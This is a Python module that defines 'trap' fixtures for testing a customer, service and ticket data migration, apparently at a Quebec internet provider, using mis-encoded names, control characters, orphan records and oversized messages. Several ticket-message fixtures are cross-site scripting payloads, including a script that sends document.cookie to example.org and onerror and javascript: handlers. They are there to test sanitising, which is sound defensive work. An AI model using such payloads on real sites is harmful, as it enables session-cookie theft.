"""Traps in customers, places, services and tickets."""

from gigafibre_utils.migration.sample.billing import Life
from gigafibre_utils.migration.sample.days import END, IN_1970, IN_2106, UNKNOWN, moment
from gigafibre_utils.migration.sample.making import Making, odd_values, trap
from gigafibre_utils.migration.sample.people import spelled, spelled_twice
from gigafibre_utils.migration.sample.records import Customer, Delivery, Message, Service, Ticket

MEGABYTE = 1 << 20
NOT_ADDRESSES = (b"pas de courriel", b"marie@", b"n/a", b"jean.cote@example,com", b"@example.com")
NOT_PHONES = (b"\xe0 venir", b"450-55", b"voir le dossier", b"0000000000")


def _customer(life: Life) -> Customer:
	return life.customer


def _service(subject: tuple[Service, Life]) -> Service:
	return subject[0]


odd_values(
	"customer.utf8_bytes",
	_customer,
	first_name=spelled("Éloïse", True),
	last_name=spelled("Bérubé-Gagné", True),
)
odd_values(
	"customer.true_latin1",
	_customer,
	first_name=spelled("Éloïse", False),
	last_name=spelled("Lefrançois-Côté", False),
)
odd_values(
	"customer.encoded_twice",
	_customer,
	last_name=spelled_twice("Thériault"),
	city=spelled_twice("Saint-Rémi"),
)
odd_values(
	"customer.control_characters",
	_customer,
	last_name=b"Trem\x00blay\x07",
	address1=b"12\x0b rue\tPrincipale\x1f",
	city=b"Sainte\x02-Clotilde",
	notes=b"Ligne un\x00\r\nLigne deux\x1b",
)
odd_values("customer.trailing_blanks", _customer, last_name=b"Gagnon   ", city=b"Huntingdon  ")
odd_values("customer.no_name", _customer, company=b"", first_name=b"", last_name=b"")
odd_values(
	"customer.company_and_person",
	_customer,
	company=spelled("Érablière du Ruisseau inc.", True),
	first_name=b"Daniel",
	last_name=b"Roy",
)
odd_values("customer.created_at_second_zero", _customer, created_at=UNKNOWN)
odd_values("customer.created_in_1970", _customer, created_at=IN_1970)

odd_values("delivery.control_characters", address1=b"77 chemin\x00 Cowan\x08", device_serial=b"TRG\x00-1")
odd_values("delivery.trailing_blanks", address1=b"5 montee Gagne   ", city=b"Napierville ")
odd_values("delivery.created_at_second_zero", created_at=UNKNOWN)

odd_values("service.start_is_a_zero_date", _service, start_date=0)

odd_values("ticket.customer_zero", customer_id=0, delivery_id=0)
odd_values("ticket.control_characters", subject=b"Panne\x00 de service\x07\t ce matin  ")
odd_values("ticket.entities", subject=b"R&eacute;seau &amp; t&#233;l&#xe9;phone &lt;urgent&gt;")
odd_values("ticket.opened_at_second_zero", opened_at=UNKNOWN)
odd_values("ticket.opened_in_1970", opened_at=IN_1970)
odd_values("ticket.opened_in_2106", opened_at=IN_2106)

odd_values("ticket_message.emoji", body="😀 Ça marche enfin, merci 👍🏽 l'équipe! 🎉".encode())
odd_values(
	"ticket_message.script",
	body=b"<p>Bonjour</p><script>fetch('https://example.org/?c='+document.cookie)</script><p>Merci</p>",
)
odd_values(
	"ticket_message.event_handler",
	body=b'Voir <img src="x" onerror="alert(1)"> et <b onclick=\'alert(2)\'>ici</b>',
)
odd_values(
	"ticket_message.javascript_link",
	body=b'<a href="javascript:alert(1)">Cliquez</a> <a href="https://example.com/aide">ou ici</a>',
)
odd_values(
	"ticket_message.control_characters",
	body=b"Voici le journal:\x00\x1b[31m erreur\x1b[0m\x07\r\nfin\x00",
)
odd_values("ticket_message.trailing_blanks", author=b"mgagne  ", body=b"Fait.  \n \n")
odd_values("ticket_message.sent_at_second_zero", sent_at=UNKNOWN)


@trap("customer.several_emails")
def _several_emails(life: Life, making: Making) -> int:
	customer = life.customer
	separator = (b"; ", b",", b";")[customer.id % 3]
	addresses = (b"menage%d@example.com" % customer.id, b"Bureau@Example.ORG", b"pas-une-adresse")
	customer.email = separator.join(addresses)
	return customer.id


@trap("customer.not_an_email")
def _not_an_email(life: Life, making: Making) -> int:
	life.customer.email = making.chance.one_of(NOT_ADDRESSES)
	return life.customer.id


@trap("customer.not_a_phone")
def _not_a_phone(life: Life, making: Making) -> int:
	life.customer.phone_home = making.chance.one_of(NOT_PHONES)
	return life.customer.id


@trap("customer.account_no_twice")
def _account_no_twice(life: Life, making: Making) -> int | None:
	if not making.last_account:
		return None
	life.customer.account_no = making.last_account
	return life.customer.id


@trap("customer.closed_with_a_balance")
def _closed_with_a_balance(life: Life, making: Making) -> int:
	customer = life.customer
	customer.status, customer.closed_at = b"closed", customer.closed_at or moment(END)
	life.leaves_owing = True
	return customer.id


@trap("delivery.customer_gone")
def _delivery_without_customer(delivery: Delivery, making: Making) -> int:
	"""One more place, with a service, of somebody who was deleted."""
	orphan = Delivery(
		*(making.next_id("delivery"), making.gone("customer"), b"Ancien logement", b"9 rang Cowan", b""),
		*(b"Hemmingford", b"J0L 1H0", None, b"", b"", delivery.created_at),
	)
	making.put(orphan)
	making.put(Service(making.next_id("service"), orphan.id, 1, b"", None, 0, 0, b"suspended"))
	return orphan.id


@trap("service.delivery_gone")
def _service_without_delivery(subject: tuple[Service, Life], making: Making) -> int:
	service = _service(subject)
	service.delivery_id = making.gone("delivery")
	return service.id


@trap("service.end_before_start")
def _end_before_start(subject: tuple[Service, Life], making: Making) -> int:
	service = _service(subject)
	service.end_date, service.status = service.start_date - 12, b"ended"
	return service.id


def _names_the_bill(subject: tuple[Service, Life], name: bytes) -> int | None:
	"""Give an active service, a customer's first, the name that its bill goes to."""
	service, life = subject
	if service.status != b"active" or life.subscribed:
		return None
	service.bill_to_name = name
	return service.id


@trap("service.bill_to_another_name")
def _bill_to_another_name(subject: tuple[Service, Life], making: Making) -> int | None:
	return _names_the_bill(subject, spelled("9123-4567 Québec inc. (Les Chênes)", subject[1].is_utf8))


@trap("service.bill_to_name_with_dirt")
def _bill_to_name_with_dirt(subject: tuple[Service, Life], making: Making) -> int | None:
	return _names_the_bill(subject, b"Succession\x00 Gagnon &amp; filles  ")


@trap("ticket.customer_gone")
def _ticket_without_customer(ticket: Ticket, making: Making) -> int:
	ticket.customer_id, ticket.delivery_id = making.gone("customer"), 0
	return ticket.id


@trap("ticket_message.megabyte", at_most=2)
def _megabyte(message: Message, making: Making) -> int:
	line = "<p>Journal du routeur: reçu, transmis, perdu – 0 erreur</p>\n".encode()
	message.body = line * (MEGABYTE // len(line) + 1)
	return message.id
